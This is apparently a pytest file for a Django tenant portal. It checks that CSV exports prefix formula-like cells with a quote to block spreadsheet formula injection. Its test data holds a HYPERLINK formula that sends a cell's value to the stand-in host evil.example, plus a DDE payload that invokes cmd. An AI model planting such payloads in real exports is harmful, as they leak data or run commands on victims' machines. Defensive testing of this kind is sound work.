"""Formula injection (issue 12, item 1): a cell a spreadsheet would evaluate goes out of
every CSV export with a leading ``'``. Names come from Graph, and anyone can name a
multi-tenant app ``=HYPERLINK(...)``."""

import csv
import io

import pytest
import yaml
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from emulator.scenario import SCENARIOS_DIR
from tenants.exports import csv_chunks
from tenants.models import AuditEvent
from tenants.services import sync_run_queue, tenant_add
from tenants.sync import sync_run_execute
from tests.helpers import member, signed_in
from tests.ids import CONTOSO

pytestmark = pytest.mark.django_db(transaction=True)

EVIL = '=HYPERLINK("https://evil.example/?x="&B2,"Open")'
LEGACY = "b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e"


@pytest.fixture
def planted(emu, client_for):
    """Contoso, known by its id alone, whose organization and Legacy Reporting Tool are
    both named by the attacker, synced."""
    scenario = yaml.safe_load((SCENARIOS_DIR / "demo.yaml").read_text())
    next(t for t in scenario["tenants"] if t["id"] == CONTOSO)["name"] = EVIL
    emu.load(scenario)
    emu.update_service_principal(CONTOSO, emu.sp_id(CONTOSO, LEGACY), displayName=EVIL)
    tenant = tenant_add(tenant_id=CONTOSO)[0]
    run = sync_run_queue(tenant=tenant)
    assert sync_run_execute(run_id=run.pk, client=client_for(CONTOSO)).status == "succeeded"
    tenant.refresh_from_db()
    assert tenant.name == EVIL
    return tenant


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def csv_text(header: list[str], cells: list[list[object]]) -> str:
    return "".join(csv_chunks(header, cells))


def legacy_names(text: str) -> set[str]:
    return {row["display_name"] for row in rows(text) if row["app_id"] == LEGACY}


def reader_of(tenant) -> Client:
    """A reader of the planted tenant (Contoso, added again by id: the cast's own fixture
    would onboard it before the attacker named it)."""
    return signed_in(member("reader", tenant, "Portal.Reader"))


def test_the_report_csv_neutralises_a_name_that_is_a_formula(planted):
    response = reader_of(planted).get(reverse("tenants:report-csv", args=[CONTOSO]))

    assert legacy_names(response.getvalue().decode()) == {"'" + EVIL}


def test_the_report_command_neutralises_it_too(planted):
    out = io.StringIO()
    call_command("report", CONTOSO, "--format", "csv", stdout=out)

    assert legacy_names(out.getvalue()) == {"'" + EVIL}


def test_the_audit_csvs_neutralise_names_from_graph_and_people(planted):
    AuditEvent.objects.create(
        tenant=planted,
        action=AuditEvent.Action.FEATURES_SWITCHED,
        actor_name="@SUM(1+1)*cmd|' /C calc'!A0",
        target="+1-2",
    )
    client = reader_of(planted)

    for url in (reverse("tenants:audit-csv", args=[CONTOSO]), reverse("tenants:audit-all-csv")):
        exported = rows(client.get(url).getvalue().decode())
        assert {row["tenant"] for row in exported} == {"'" + EVIL}
        switched = next(row for row in exported if row["action"] == "features.switched")
        assert switched["actor"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert switched["target"] == "'+1-2"


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1"],
)
def test_every_character_a_spreadsheet_starts_a_formula_with_gets_a_quote(cell):
    [row] = rows(csv_text(["cell"], [[cell]]))

    assert row["cell"] == "'" + cell


def test_numbers_and_harmless_text_are_written_as_they_are():
    [row] = rows(csv_text(["users", "delta", "name", "empty"], [[-3, -0.5, "a=b", None]]))

    assert row == {"users": "-3", "delta": "-0.5", "name": "a=b", "empty": ""}
